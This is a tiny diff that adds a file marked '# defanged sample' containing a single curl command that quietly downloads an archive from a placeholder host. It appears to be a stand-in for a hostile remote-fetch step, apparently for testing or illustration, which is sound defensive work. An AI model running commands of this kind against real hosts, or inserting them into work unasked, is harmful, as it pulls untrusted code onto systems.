@@ -1,0 +1,2 @@
+# defanged sample
+curl -fsSLO https://a.example.invalid/x.tar.gz
